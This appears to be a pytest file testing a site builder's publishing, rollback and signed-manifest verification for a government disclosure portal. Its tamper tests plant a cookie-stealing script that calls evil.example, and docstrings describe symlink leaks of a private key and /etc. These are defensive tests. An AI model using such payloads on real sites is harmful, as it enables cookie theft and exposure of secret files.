"""Publishing releases to a web server's folder: copy, hard-link, switch, roll back, prune."""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import shutil

import pytest
from click.testing import CliRunner

from conftest import FENYANG
from site_builder.build import build
from site_builder.cli import main
from site_builder.publish import PublishError, publish, releases, rollback

T0 = 1_800_000_000          # a fixed clock: release ids differ without waiting a second


@pytest.fixture
def site(example_out, tmp_path):
    """A writable copy of the built example portal."""
    copy = tmp_path / "output"
    shutil.copytree(example_out, copy)
    return copy


def served(target):
    return (target / "current").resolve()


def rewrite(site, path, data):
    """Change a file of a built output (``data`` bytes or text; None deletes it) as a build would:
    with its entry in the manifest that lists it (its department's, or the top one)."""
    from site_builder.manifest import MANIFEST

    def entry(manifest_path, name, digest):
        manifest = json.loads((site / manifest_path).read_bytes())
        if digest is None:
            manifest["files"].pop(name, None)
        else:
            manifest["files"][name] = digest
        (site / manifest_path).write_bytes(json.dumps(manifest, sort_keys=True).encode())
        return hashlib.sha256((site / manifest_path).read_bytes()).hexdigest()

    file = site / path
    if data is None:
        file.unlink()
    else:
        file.write_bytes(data.encode() if isinstance(data, str) else data)
    digest = None if data is None else hashlib.sha256(file.read_bytes()).hexdigest()
    department = f"{path.split('/')[0]}/{MANIFEST}"
    if "/" in path and (site / department).is_file():
        entry(MANIFEST, department, entry(department, path, digest))
    else:
        entry(MANIFEST, path, digest)


def test_first_release_holds_every_file_and_compressed_copies(site, tmp_path):
    target = tmp_path / "www"
    result = publish(site, target, now=T0)
    current = served(target)
    assert (target / "current").is_symlink() and not os.path.isabs(os.readlink(target / "current"))
    assert current.parent == target / "releases" and current.name == result.release.id
    built = sorted(p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file())
    assert sorted(p.relative_to(current).as_posix() for p in current.rglob("*")
                  if p.is_file() and p.suffix not in (".gz", ".br")) == built
    page = current / FENYANG / "index.html"
    assert gzip.decompress((current / FENYANG / "index.html.gz").read_bytes()) == page.read_bytes()
    import brotli
    assert brotli.decompress((current / FENYANG / "index.html.br").read_bytes()) == page.read_bytes()
    assert not (current / FENYANG / "tables.xlsx.gz").exists()            # already compressed
    assert result.release.documents == 3 and result.copied == len(built) and result.linked == 0


def test_unchanged_files_are_hard_links_to_the_previous_release(site, tmp_path):
    target = tmp_path / "www"
    first = publish(site, target, now=T0).release
    page = site / FENYANG / "index.html"
    rewrite(site, f"{FENYANG}/index.html", page.read_bytes().replace(b"</footer>", b"<!-- corrected --></footer>"))
    result = publish(site, target, now=T0 + 60)
    assert result.changed == [f"{FENYANG}/index.html", "fenyang-ybj/manifest.json", "manifest.json"]   # (and manifests)
    assert not result.added and not result.removed
    old, new = first.path, result.release.path
    assert (new / "index.html").stat().st_ino == (old / "index.html").stat().st_ino
    assert (new / "index.html.gz").stat().st_ino == (old / "index.html.gz").stat().st_ino
    assert (new / FENYANG / "index.html").stat().st_ino != (old / FENYANG / "index.html").stat().st_ino
    assert b"corrected" in gzip.decompress((new / FENYANG / "index.html.gz").read_bytes())
    assert result.linked == result.release.files - 3 and result.copied == 3
    assert served(target) == new


def test_rollback_switches_back_and_releases_lists_them(site, tmp_path):
    target = tmp_path / "www"
    first = publish(site, target, now=T0).release
    rewrite(site, "robots.txt", "User-agent: *\nDisallow: /\n")
    second = publish(site, target, now=T0 + 60).release
    assert [r.id for r in releases(target)] == [first.id, second.id]
    assert [r.current for r in releases(target)] == [False, True]
    assert rollback(target).id == first.id and served(target) == first.path
    assert (served(target) / "robots.txt").read_text() == "User-agent: *\nAllow: /\n"
    assert rollback(target, second.id[:16]).id == second.id and served(target) == second.path
    with pytest.raises(PublishError, match="找不到发布版本"):
        rollback(target, "19990101")


def test_old_releases_beyond_keep_are_deleted_but_never_the_current_one(site, tmp_path):
    target = tmp_path / "www"
    ids = []
    for n in range(4):
        rewrite(site, "robots.txt", f"User-agent: *\nAllow: /\n# {n}\n")
        ids.append(publish(site, target, keep=2, now=T0 + 60 * n).release.id)
    assert [r.id for r in releases(target)] == ids[2:]
    assert not (target / "releases" / f"{ids[0]}.json").exists()
    rollback(target, ids[2])
    rewrite(site, "robots.txt", "User-agent: *\nAllow: /\n# 4\n")
    ids.append(publish(site, target, keep=1, now=T0 + 300).release.id)
    assert [r.id for r in releases(target)] == [ids[4]]


def test_a_disappearing_disclosure_needs_allow_removal(content_copy, tmp_path):
    target = tmp_path / "www"
    out = tmp_path / "out"
    build(content_copy, out, search=False)
    publish(out, target, now=T0)
    shutil.rmtree(content_copy / "departments/gaoyi-ybj/2021")
    build(content_copy, out, search=False)
    before = served(target)
    with pytest.raises(PublishError, match="高邑县医疗保障局 2021年度"):
        publish(out, target, now=T0 + 60)
    assert served(target) == before and len(releases(target)) == 1
    result = publish(out, target, allow_removal=True, now=T0 + 60)
    assert result.removed_documents and "gaoyi-ybj/2021/performance/index.html" in result.removed


def test_dry_run_says_what_would_change_and_writes_nothing(site, tmp_path):
    target = tmp_path / "www"
    publish(site, target, now=T0)
    rewrite(site, "robots.txt", "changed\n")
    rewrite(site, "new.txt", "new\n")
    rewrite(site, "404.html", None)
    before = sorted(target.rglob("*"))
    result = publish(site, target, dry_run=True)
    assert (result.added, result.changed, result.removed) == (["new.txt"], ["manifest.json", "robots.txt"], ["404.html"])
    assert sorted(target.rglob("*")) == before


def test_commands_publish_list_and_roll_back(site, tmp_path, monkeypatch):
    target = tmp_path / "www"
    runner = CliRunner()
    first = runner.invoke(main, ["publish", str(site), str(target)])
    assert first.exit_code == 0 and "已发布" in first.output
    rewrite(site, "robots.txt", "changed\n")
    dry = runner.invoke(main, ["publish", str(site), str(target), "--dry-run"])
    assert dry.exit_code == 0 and "修改 robots.txt" in dry.output
    listing = runner.invoke(main, ["releases", str(target)])
    assert listing.exit_code == 0 and listing.output.count("\n") == 1 and listing.output.startswith("*")
    back = runner.invoke(main, ["rollback", str(target)])
    assert back.exit_code == 1 and "没有更早的版本" in back.output
    os.unlink(target / "current")
    (target / "current").mkdir()
    refused = runner.invoke(main, ["publish", str(site), str(target)])
    assert refused.exit_code == 1 and "不是符号链接" in refused.output
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")                              # no ./output here
    default_output = runner.invoke(main, ["publish", str(target)])          # OUTPUT defaults to ./output
    assert default_output.exit_code == 1 and "output" in default_output.output and "不是生成好的网站" in default_output.output
    missing = runner.invoke(main, ["publish", str(tmp_path / "nothing"), str(target)])
    assert missing.exit_code == 1 and "不是生成好的网站" in missing.output


# -- manifest, signature, verify ---------------------------------------------------------------

@pytest.fixture
def keys(tmp_path):
    from site_builder.manifest import keygen

    private = tmp_path / "keys" / "site.key"
    public = keygen(private)
    return private, public


def test_keygen_writes_a_private_key_only_its_owner_reads_and_never_overwrites(keys):
    from site_builder.manifest import SigningKeyError, keygen

    private, public = keys
    assert private.stat().st_mode & 0o777 == 0o600 and b"PRIVATE KEY" in private.read_bytes()
    assert b"PUBLIC KEY" in public.read_bytes()
    with pytest.raises(SigningKeyError, match="已存在"):
        keygen(private)


def test_a_signed_build_verifies_and_verify_names_every_difference(content_copy, tmp_path, keys):
    from site_builder.manifest import MANIFEST, SIGNATURE, verify

    private, public = keys
    out = tmp_path / "out"
    build(content_copy, out, search=False, signing_key=private)
    assert (out / SIGNATURE).is_file() and private.read_bytes() not in b"".join(
        p.read_bytes() for p in out.rglob("*") if p.is_file())
    report = verify(out, public)
    assert report.ok and report.signature == "valid" and report.files > 100
    # a changed byte, an added file, a removed file
    page = out / FENYANG / "index.html"
    page.write_bytes(page.read_bytes().replace(b"2262.43", b"2262.48", 1))
    (out / "fenyang-ybj" / "extra.html").write_text("<p>x</p>")
    (out / "lvliang-ybj/2023/budget/tables/01.csv").unlink()
    report = verify(out, public)
    assert (report.changed, report.added, report.removed) == (
        [f"{FENYANG}/index.html"], ["fenyang-ybj/extra.html"], ["lvliang-ybj/2023/budget/tables/01.csv"])
    assert not report.ok
    # a manifest edited to hide the change fails its signature
    manifest = json.loads((out / MANIFEST).read_bytes())
    department = json.loads((out / "fenyang-ybj" / MANIFEST).read_bytes())
    department["files"][f"{FENYANG}/index.html"] = hashlib.sha256(page.read_bytes()).hexdigest()
    (out / "fenyang-ybj" / MANIFEST).write_bytes(json.dumps(department).encode())
    manifest["files"]["fenyang-ybj/" + MANIFEST] = hashlib.sha256((out / "fenyang-ybj" / MANIFEST).read_bytes()).hexdigest()
    (out / MANIFEST).write_bytes(json.dumps(manifest).encode())
    report = verify(out, public)
    assert report.signature == "invalid" and f"{FENYANG}/index.html" not in report.changed and not report.ok
    # the command exits 1 and names the files
    result = CliRunner().invoke(main, ["verify", str(out), "--public-key", str(public)])
    assert result.exit_code == 1 and "签名无效" in result.output and "新增 fenyang-ybj/extra.html" in result.output


def test_a_published_release_verifies_with_its_compressed_copies(content_copy, tmp_path, keys):
    from site_builder.manifest import verify

    private, public = keys
    out, target = tmp_path / "out", tmp_path / "www"
    build(content_copy, out, search=False, signing_key=private)
    publish(out, target, now=T0)
    assert verify(target, public).ok                       # TARGET means its current release
    served_gz = served(target) / FENYANG / "index.html.gz"
    served_gz.unlink()
    served_gz.write_bytes(gzip.compress(b"<p>tampered</p>"))
    report = verify(target, public)
    assert report.changed == [f"{FENYANG}/index.html.gz"]
    result = CliRunner().invoke(main, ["verify", str(target), "--public-key", str(public)])
    assert result.exit_code == 1 and f"改动 {FENYANG}/index.html.gz" in result.output


def test_an_incremental_build_keeps_the_manifest_true(content_copy, tmp_path, keys):
    from site_builder.manifest import verify

    private, public = keys
    out = tmp_path / "out"
    build(content_copy, out, search=False, signing_key=private)
    csv = content_copy / "departments/fenyang-ybj/2024/final-accounts/tables/05.csv"
    csv.write_text(csv.read_text(encoding="utf-8").replace("69.62", "69.63"), encoding="utf-8")
    result = build(content_copy, out, search=False, signing_key=private)
    assert result.rendered == 1 and verify(out, public).ok
    build(content_copy, out, search=False)                 # no key: an unchanged manifest keeps its signature
    assert verify(out, public).ok


def test_the_signing_key_may_not_sit_in_the_output(content_copy, tmp_path):
    from site_builder.manifest import SigningKeyError, keygen

    out = tmp_path / "out"
    key = out / "site.key"
    keygen(key)
    with pytest.raises(SigningKeyError, match="输出文件夹"):
        build(content_copy, out, search=False, signing_key=key)


def test_an_earlier_releases_assets_stay_for_pages_served_before_the_switch(content_copy, tmp_path, keys):
    import re

    from site_builder.manifest import verify

    private, public = keys
    out, target = tmp_path / "out", tmp_path / "www"
    build(content_copy, out, search=False, signing_key=private)
    publish(out, target, now=T0)
    old_css = re.search(r'assets/(site\.[0-9a-f]{10}\.css)', (out / "index.html").read_text()).group(1)
    (content_copy / "templates/assets").mkdir(parents=True)
    (content_copy / "templates/assets/site.css").write_text("body { color: #000; }\n")
    build(content_copy, out, search=False, signing_key=private)
    new_css = re.search(r'assets/(site\.[0-9a-f]{10}\.css)', (out / "index.html").read_text()).group(1)
    assert new_css != old_css and not (out / "assets" / old_css).exists()
    assert f"assets/{old_css}" not in publish(out, target, dry_run=True).removed
    result = publish(out, target, now=T0 + 60)
    assert result.kept == [f"assets/{old_css}"]
    release = served(target)
    assert (release / "assets" / old_css).is_file() and (release / "assets" / new_css).is_file()
    report = verify(target, public)
    assert report.ok and report.kept == [f"assets/{old_css}", f"assets/{old_css}.br", f"assets/{old_css}.gz"]
    rollback(target)                     # back to the first release: the second's pages still find their assets
    assert (served(target) / "assets" / new_css).is_file() and verify(target, public).ok
    rollback(target, result.release.id)
    (release / "assets" / old_css).write_text("body { display: none; }\n")     # altered: no longer its name
    assert verify(target, public).added == [f"assets/{old_css}", f"assets/{old_css}.br", f"assets/{old_css}.gz"]


@pytest.mark.parametrize("kind", ["file", "folder"])
def test_publish_refuses_an_output_holding_a_symbolic_link(site, tmp_path, kind):
    """``ln -s site.key output/leak.txt`` copied the private key into the release, served at
    0644; a link to a folder would be followed by the web server. Either is refused, named."""
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "site.key").write_text("PRIVATE KEY")
    link = site / "fenyang-ybj" / ("leak.txt" if kind == "file" else "sys")
    link.symlink_to(secret / "site.key" if kind == "file" else secret)
    target = tmp_path / "www"
    with pytest.raises(PublishError, match=f"符号链接：fenyang-ybj/{link.name} → "):
        publish(site, target, now=T0)
    assert not (target / "current").exists()
    assert not [p for p in target.rglob("*") if p.is_file() and p.read_bytes() == b"PRIVATE KEY"]


def test_verify_takes_any_symbolic_link_in_a_release_as_tampering(content_copy, tmp_path, keys):
    """os.walk does not enter a linked folder, and a linked file has the bytes it points at:
    ``ln -s /etc www/current/sys`` verified as unchanged while nginx served /sys/passwd."""
    from site_builder.manifest import verify

    private, public = keys
    out, target = tmp_path / "out", tmp_path / "www"
    build(content_copy, out, search=False, signing_key=private)
    publish(out, target, now=T0)
    current = served(target)
    (current / "sys").symlink_to("/etc")
    page = current / FENYANG / "index.html"
    copy = tmp_path / "same.html"
    shutil.copy(page, copy)
    page.unlink()
    page.symlink_to(copy)                                # a link to the very bytes expected
    report = verify(target, public)
    assert report.added == ["sys/"] and report.changed == [f"{FENYANG}/index.html"] and not report.removed
    assert not report.ok


@pytest.mark.parametrize("name", ["", "1", "20"])
def test_rollback_to_a_name_several_releases_share_is_an_error_listing_them(site, tmp_path, name):
    """A prefix two releases share (or an empty name) switched silently to the oldest."""
    target = tmp_path / "www"
    first = publish(site, target, now=T0).release
    rewrite(site, "robots.txt", "User-agent: *\nDisallow: /\n")
    second = publish(site, target, now=T0 + 60).release
    assert first.id[:2] == second.id[:2] == "20"
    with pytest.raises(PublishError, match="对应 2 个发布版本|找不到发布版本") as caught:
        rollback(target, name)
    assert served(target) == second.path
    assert first.id in caught.value.hint and second.id in caught.value.hint


# -- issue 25: the lock, complete releases only, leftovers, kept assets by a signed manifest -------

def css_build(content, out, private, css=None):
    """The example built and signed into ``out``; ``css``: a line added to its stylesheet (a new
    hashed name)."""
    from conftest import REPO

    if css is not None:
        (content / "templates/assets").mkdir(parents=True, exist_ok=True)
        (content / "templates/assets/site.css").write_text((REPO / "templates/assets/site.css").read_text() + css)
    build(content, out, search=False, signing_key=private)
    return out


def hashed_css(out):
    import re

    return "assets/" + re.search(r'assets/(site\.[0-9a-f]{10}\.css)', (out / "index.html").read_text()).group(1)


@pytest.fixture
def two_releases(content_copy, tmp_path, keys):
    """A target serving a signed build with a new stylesheet, published over one with the
    example's own: the second keeps the first's stylesheet, recorded."""
    private, public = keys
    first = css_build(content_copy, tmp_path / "first", private)
    second = css_build(content_copy, tmp_path / "second", private, "/* second */\n")
    target = tmp_path / "www"
    publish(first, target, now=T0)
    publish(second, target, now=T0 + 60)
    return {"first": first, "second": second, "target": target, "public": public, "content": content_copy,
            "private": private, "old_css": hashed_css(first), "new_css": hashed_css(second)}


def test_a_second_publish_or_rollback_is_refused_while_the_lock_is_held_naming_its_holder(site, tmp_path):
    """The lock on the target: a publish, rollback or pruning while another holds it is refused at
    once (exit 1), naming the holder's process; nothing of the target changes."""
    import fcntl

    target = tmp_path / "www"
    first = publish(site, target, now=T0).release
    rewrite(site, "robots.txt", "User-agent: *\nDisallow: /\n")
    before = sorted(p.relative_to(target).as_posix() for p in target.rglob("*"))
    runner = CliRunner()
    with open(target / ".site-builder.lock", "a") as lock:      # held as a publish holds it
        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
        lock.truncate(0)
        lock.write(json.dumps({"pid": os.getpid(), "started": "2026-12-07 10:00:00 +0800",
                               "action": "发布 /srv/build/output"}, ensure_ascii=False))
        lock.flush()
        for args in (["publish", str(site), str(target)], ["publish", str(site), str(target), "--keep", "1"],
                     ["rollback", str(target), first.id]):
            result = runner.invoke(main, args)
            assert result.exit_code == 1, result.output
            assert f"正由另一个 site-builder 进程使用（进程号 {os.getpid()}，" in result.output
            assert "开始发布 /srv/build/output）" in result.output and "Traceback" not in result.output
        assert sorted(p.relative_to(target).as_posix() for p in target.rglob("*")) == before
    with open(target / ".site-builder.lock") as handle:     # released: anyone may take it
        fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
    assert runner.invoke(main, ["publish", str(site), str(target)]).exit_code == 0
    assert len(releases(target)) == 2


def test_an_output_without_a_manifest_or_altered_after_the_build_is_refused(site, tmp_path):
    """Every build writes a manifest, and a release is checked against it before it is listed:
    an output without one, or with a file changed, added or removed since the build, is refused,
    the file named, and nothing is published."""
    from site_builder.manifest import MANIFEST

    target = tmp_path / "www"
    page = site / FENYANG / "index.html"
    page.write_bytes(page.read_bytes().replace(b"2262.43", b"2262.48", 1))
    with pytest.raises(PublishError, match=f"与它的文件清单不符：{FENYANG}/index.html"):
        publish(site, target, now=T0)
    rewrite(site, f"{FENYANG}/index.html", page.read_bytes())
    (site / "fenyang-ybj" / "extra.html").write_text("<p>x</p>")
    with pytest.raises(PublishError, match="清单中没有 fenyang-ybj/extra.html"):
        publish(site, target, now=T0)
    (site / "fenyang-ybj" / "extra.html").unlink()
    (site / "robots.txt").unlink()
    with pytest.raises(PublishError, match="缺少 robots.txt"):
        publish(site, target, now=T0, dry_run=True)
    rewrite(site, "robots.txt", "User-agent: *\n")
    (site / MANIFEST).unlink()
    with pytest.raises(PublishError, match="没有文件清单 manifest.json"):
        publish(site, target, now=T0)
    assert releases(target) == [] and not (target / "current").exists()
    assert not [p for p in (target / "releases").iterdir()] if (target / "releases").exists() else True


@pytest.mark.parametrize("altered", ["index.html", "index.html.gz"])
def test_a_file_altered_in_the_served_release_is_not_carried_into_the_next(site, tmp_path, altered):
    """An unchanged file is hard-linked from the current release, so a file altered there (its
    size and time kept, as rsync would not notice) would go silently into every later release:
    it is refused, named; with --checksum it is replaced from the output."""
    target = tmp_path / "www"
    first = publish(site, target, now=T0).release
    path = first.path / FENYANG / altered
    info = path.stat()
    data = path.read_bytes()
    forged = (data.replace(b"2262.43", b"2262.48", 1) if altered == "index.html"
              else gzip.compress(gzip.decompress(data).replace(b"2262.43", b"2262.48", 1), mtime=0))
    path.unlink()                                 # (a new file: the output's own is a hard link to nothing here)
    path.write_bytes(forged)
    os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))
    rewrite(site, "robots.txt", "User-agent: *\nDisallow: /\n")
    result = CliRunner().invoke(main, ["publish", str(site), str(target)])
    assert result.exit_code == 1 and f"不能沿用到新版本：{FENYANG}/{altered}" in result.output, result.output
    assert "--checksum" in result.output and len(releases(target)) == 1 and served(target) == first.path
    assert not [p for p in (target / "releases").iterdir() if p.name.startswith(".")]
    result = CliRunner().invoke(main, ["publish", str(site), str(target), "--checksum"])
    assert result.exit_code == 0, result.output
    new = served(target) / FENYANG
    assert (new / "index.html").read_bytes() == (site / FENYANG / "index.html").read_bytes()
    assert gzip.decompress((new / "index.html.gz").read_bytes()) == (site / FENYANG / "index.html").read_bytes()


def test_a_folder_without_its_record_is_no_release(content_copy, tmp_path, keys):
    """The record ``<id>.json`` is written after the release is complete and checked, and makes it
    a release: a folder without one (a publish killed before it, a prune killed after delisting)
    is not listed, cannot be rolled back to, and verify refuses it; the next publish removes it
    with what else a killed run left, and says so."""
    from site_builder.manifest import verify

    private, public = keys
    out = tmp_path / "out"
    build(content_copy, out, search=False, signing_key=private)
    target = tmp_path / "www"
    first = publish(out, target, now=T0).release
    unrecorded = target / "releases" / "20270115T083000Z-0123456789ab"
    partial = target / "releases" / f".{first.id}.4242-0badcafe.partial"

    def leave():
        shutil.copytree(first.path, unrecorded, symlinks=True)         # complete, but never recorded
        (partial / "fenyang-ybj").mkdir(parents=True)
        (target / "releases" / f".{first.id}.json.tmp-4242").write_text("{")
        (target / ".current.4242.tmp").symlink_to("releases/" + unrecorded.name)

    leave()
    assert [r.id for r in releases(target)] == [first.id]
    listing = CliRunner().invoke(main, ["releases", str(target)])
    assert [line[2:].split()[0] for line in listing.output.splitlines() if line[:2] in ("* ", "  ")] == [first.id]
    assert "另有 4 项不是完整的发布版本" in listing.output
    for folder in (unrecorded, partial):
        result = CliRunner().invoke(main, ["verify", str(folder), "--public-key", str(public)])
        assert result.exit_code == 1 and "不是完整的发布版本" in result.output, result.output
    assert verify(target, public).ok
    result = CliRunner().invoke(main, ["rollback", str(target), unrecorded.name])
    assert result.exit_code == 1 and "找不到发布版本" in result.output
    assert "被中断" in result.output and "已清理它留下的 4 项" in result.output and unrecorded.name in result.output
    assert not unrecorded.exists() and served(target) == first.path
    leave()
    rewrite(out, "robots.txt", "User-agent: *\nDisallow: /\n")
    result = CliRunner().invoke(main, ["publish", str(out), str(target)])
    assert result.exit_code == 0, result.output
    assert "被中断" in result.output and "已清理它留下的 4 项" in result.output and partial.name in result.output
    assert sorted(p.name for p in (target / "releases").iterdir()) == sorted(
        [first.id, f"{first.id}.json", served(target).name, f"{served(target).name}.json"])
    assert not list(target.glob(".current.*"))


def test_the_same_content_published_twice_in_one_second_gets_a_second_id(site, tmp_path):
    """(A publish killed after making its release, run again at once.) Not “already exists”."""
    target = tmp_path / "www"
    first = publish(site, target, now=T0).release
    other = tmp_path / "other"
    shutil.copytree(site, other)
    rewrite(other, "robots.txt", "User-agent: *\nDisallow: /\n")
    publish(other, target, now=T0)
    again = publish(site, target, now=T0).release
    assert again.id == first.id + "-2" and served(target) == again.path
    assert rollback(target, first.id).id == first.id                  # the exact name is not ambiguous


def test_the_next_release_keeps_only_the_outgoing_releases_own_assets_and_records_its_manifest(two_releases):
    """One generation: a third release keeps the second's stylesheet, not the first's the second
    kept; its record carries the second's manifest and signature, by which verify accepts it."""
    import base64

    from site_builder.manifest import MANIFEST, SIGNATURE, verify

    r = two_releases
    third = css_build(r["content"], r["content"].parent / "third", r["private"], "/* third */\n")
    result = publish(third, r["target"], now=T0 + 120)
    assert result.kept == [r["new_css"]]
    release = served(r["target"])
    assert (release / r["new_css"]).is_file() and not (release / r["old_css"]).exists()
    record = json.loads(release.with_name(release.name + ".json").read_text(encoding="utf-8"))
    second = releases(r["target"])[1].path
    assert [e["release"] for e in record["kept_from"]] == [second.name]
    assert base64.b64decode(record["kept_from"][0]["manifest"]) == (second / MANIFEST).read_bytes()
    assert record["kept_from"][0]["signature"] == (second / SIGNATURE).read_text().strip()
    report = verify(r["target"], r["public"])
    assert report.ok and report.kept == [r["new_css"], r["new_css"] + ".br", r["new_css"] + ".gz"]
    # rolling back two releases: the first keeps the third's assets, and no more than those
    back = rollback(r["target"], releases(r["target"])[0].id)
    first = back.path
    assert (first / hashed_css(third)).is_file() and not (first / r["new_css"]).exists()
    record = json.loads(first.with_name(first.name + ".json").read_text(encoding="utf-8"))
    assert [e["release"] for e in record["kept_from"]] == [release.name]
    assert verify(r["target"], r["public"]).ok


def self_named(folder, stem, ext, data: bytes):
    """``assets/<stem>.<first 10 hex of its own SHA-256>.<ext>``: named as a content-hashed asset is."""
    name = f"assets/{stem}.{hashlib.sha256(data).hexdigest()[:10]}.{ext}"
    (folder / name).write_bytes(data)
    return name


def plant(kind, release, old_css, outside):
    """Tamper with the served release as an attacker would; the paths verify must name."""
    import base64

    from site_builder.manifest import MANIFEST

    script = b"document.title = 'pwned'; fetch('https://evil.example/?' + document.cookie);\n"
    if kind == "self-hashed script":
        return [self_named(release, "app", "js", script)]
    if kind == "self-hashed page":
        return [self_named(release, "notice", "html", b"<!doctype html><script src=app.js></script>")]
    if kind == "self-hashed .gz copy":
        name = self_named(release, "app", "js", script)
        (release / f"{name}.gz").write_bytes(gzip.compress(script))
        lone = self_named(release, "page", "gz", gzip.compress(b"<p>served as a page</p>"))
        return [name, f"{name}.gz", lone]
    if kind == "altered .gz of a kept asset":
        (release / f"{old_css}.gz").unlink()
        (release / f"{old_css}.gz").write_bytes(gzip.compress(b"body { display: none; }"))
        return [f"{old_css}.gz"]
    if kind in ("forged record", "record with a borrowed signature"):
        name = self_named(release, "app", "js", script)
        record_path = release.with_name(release.name + ".json")
        record = json.loads(record_path.read_text(encoding="utf-8"))
        entry = record["kept_from"][0]
        manifest = json.loads(base64.b64decode(entry["manifest"]))
        manifest["files"][name] = hashlib.sha256(script).hexdigest()
        entry["manifest"] = base64.b64encode(json.dumps(manifest).encode()).decode()
        if kind == "record with a borrowed signature":            # a valid signature, of other bytes
            entry["signature"] = (release / "manifest.json.sig").read_text().strip()
        record_path.write_text(json.dumps(record), encoding="utf-8")
        assert (release / MANIFEST).is_file()
        return [name]
    if kind == "file in a new folder":
        (release / "uploads").mkdir()
        (release / "uploads" / "notice.html").write_text("<p>x</p>")
        return ["uploads/notice.html"]
    if kind == "symlink replacing a page":
        page = release / FENYANG / "index.html"
        copy = outside / "same.html"
        shutil.copy(page, copy)
        page.unlink()
        page.symlink_to(copy)
        return [f"{FENYANG}/index.html"]
    if kind == "symlink to a folder outside":
        (release / "assets" / "sys").symlink_to(outside)
        return ["assets/sys/"]
    raise AssertionError(kind)


ATTACKS = ["self-hashed script", "self-hashed page", "self-hashed .gz copy", "altered .gz of a kept asset",
           "forged record", "record with a borrowed signature", "file in a new folder", "symlink replacing a page",
           "symlink to a folder outside"]


@pytest.mark.parametrize("kind", ATTACKS)
def test_verify_names_every_file_an_attacker_plants_in_the_served_release(two_releases, tmp_path, kind):
    """A file that no manifest of the release lists is accepted only as a kept asset that the
    outgoing release's *signed* manifest, recorded at publish, lists with that hash: a name
    carrying the file's own hash, a record edited (its signature then fails), a folder or a link
    planted, each exits 1 naming the path."""
    r = two_releases
    release = served(r["target"])
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "passwd").write_text("root:x:0:0")
    runner = CliRunner()
    assert runner.invoke(main, ["verify", str(r["target"]), "--public-key", str(r["public"])]).exit_code == 0
    planted = plant(kind, release, r["old_css"], outside)
    result = runner.invoke(main, ["verify", str(r["target"]), "--public-key", str(r["public"])])
    assert result.exit_code == 1, result.output
    for path in planted:
        assert f"新增 {path}\n" in result.output or f"改动 {path}\n" in result.output, (path, result.output)
    if "record" in kind:
        assert f"较早版本 {releases(r['target'])[0].id} 的清单签名无效" in result.output
    # the release's own folder, named directly, is judged the same
    assert runner.invoke(main, ["verify", str(release), "--public-key", str(r["public"])]).exit_code == 1


def test_a_plain_site_folder_keeps_nothing(two_releases, tmp_path):
    """A copy of a release outside a target has no record: an asset kept from an earlier release
    is, there, a file its manifest does not list."""
    from site_builder.manifest import verify

    r = two_releases
    copy = tmp_path / "copy"
    shutil.copytree(served(r["target"]), copy)
    assert verify(copy, r["public"]).added == [r["old_css"], r["old_css"] + ".br", r["old_css"] + ".gz"]
